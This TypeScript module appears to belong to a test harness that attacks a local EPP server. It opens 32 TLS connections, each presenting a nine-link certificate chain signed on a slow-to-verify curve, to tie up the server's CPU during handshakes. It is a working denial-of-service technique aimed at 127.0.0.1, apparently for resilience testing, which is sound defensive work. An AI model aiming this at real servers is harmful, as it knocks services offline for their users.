import { readFileSync } from 'node:fs';
import { connect } from 'node:tls';
import type { Attack } from './attack.ts';
import { addressOf, holdOpen } from './raw-connection.ts';

/**
 * A key, its certificate and eight others above it, the longest chain that fits into a handshake. Those are signed with
 * keys on the curve sect571r1, whose signatures take ten times as long to verify as those of other curves.
 */
const CHAIN = readFileSync(new URL('certificate-chain.pem', import.meta.url), 'utf8');
const CONNECTIONS = 32;

/** Strangers of many networks that show a long chain of certificates in each handshake. */
export const eppCertificateChains: Attack = {
  name: 'EPP certificate chains',
  start: ({ eppPort = 0 }) =>
    holdOpen(CONNECTIONS, (index) => {
      const socket = connect({
        ...addressOf(index),
        host: '127.0.0.1',
        port: eppPort,
        key: CHAIN,
        cert: CHAIN,
        rejectUnauthorized: false,
      });
      socket.on('error', () => {});
      // What the server thinks of the chain is known with its first answer.
      socket.once('data', () => socket.destroy());
      return socket;
    }),
};
